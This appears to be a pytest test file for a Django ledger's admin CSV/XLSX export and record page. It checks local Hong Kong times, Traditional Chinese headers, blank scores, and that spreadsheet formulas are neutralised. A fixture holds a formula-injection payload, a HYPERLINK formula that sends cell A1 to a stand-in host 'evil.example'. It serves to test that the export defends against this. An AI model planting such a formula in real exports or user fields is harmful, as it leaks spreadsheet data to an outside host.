"""#9 items 9, 18, 19: the evidence list's CSV/XLSX export and the record page, as an auditor reads them."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.utils import translation
from openpyxl import load_workbook

from ledger.models import Outcome, RecordKind
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

INDEX = "/admin/ledger/records/"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"點我")'
WHEN = datetime.datetime(2026, 11, 3, 9, 56, 4, tzinfo=datetime.UTC)  # 17:56:04 in Hong Kong


@pytest.fixture
def auditor(login):
    return login(UserFactory(username="auditor", groups=["Auditor"]))


@pytest.fixture
def records(append):
    ack = append(title=EVIL, occurred_at=WHEN)
    quiz = append(kind="quiz_attempt", outcome="failed", score=45, title="開戶核實測驗", occurred_at=WHEN)
    return ack, quiz


def zh(label) -> str:
    with translation.override("zh-hant"):
        return translation.gettext(label) if isinstance(label, str) else str(label)


def test_xlsx_has_local_times_translated_headers_labels_and_blank_scores(auditor, records):
    response = auditor.get(INDEX, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.getvalue())).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    assert "Corrects seq" not in header and "Corrects" not in " ".join(map(str, header))
    assert zh("Corrects record no.") in header
    occurred = next(h for h in header if h.startswith(zh("occurred at").capitalize()))
    assert occurred.endswith("(Asia/Hong_Kong)")
    by_seq = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    ack, quiz = by_seq[records[0].seq], by_seq[records[1].seq]
    assert ack[occurred] == datetime.datetime(2026, 11, 3, 17, 56, 4)  # local, not UTC
    kind, outcome, score = (
        zh("kind").capitalize(),
        zh("outcome").capitalize(),
        zh("score").capitalize(),
    )
    assert ack[kind] == zh(RecordKind.ACKNOWLEDGEMENT.label) and ack[outcome] == zh(
        Outcome.ACKNOWLEDGED.label
    )
    assert quiz[kind] == zh(RecordKind.QUIZ_ATTEMPT.label) and quiz[outcome] == zh(Outcome.FAILED.label)
    assert ack[score] is None and quiz[score] == 45
    title = zh("title").capitalize()
    assert ack[title] == "'" + EVIL  # text, not a live formula
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == "'" + EVIL)
    assert cell.data_type == "s"


def test_csv_has_a_bom_and_no_formula(auditor, records):
    response = auditor.get(INDEX, {"export": "csv"})
    body = response.getvalue()
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert any("'" + EVIL in row for row in rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row if cell[:1] != "'")
    header = rows[0]
    occurred = next(h for h in header if "Asia/Hong_Kong" in h)
    ack = next(dict(zip(header, row, strict=True)) for row in rows[1:] if row[0] == str(records[0].seq))
    assert ack[occurred] == "2026-11-03 17:56"
    assert ack[zh("score").capitalize()] == ""


def test_record_page_shows_local_time_with_zone_and_blank_score(auditor, records):
    html = auditor.get(f"{INDEX}inspect/{records[0].pk}/").content.decode()
    assert "2026-11-03 17:56:04 (Asia/Hong_Kong)" in html
    assert "09:56" not in html
    assert ">None<" not in html and "None" not in html.split(zh("score").capitalize(), 1)[1][:200]
    html = auditor.get(f"{INDEX}inspect/{records[1].pk}/").content.decode()
    assert "45.00" in html and zh(RecordKind.QUIZ_ATTEMPT.label) in html
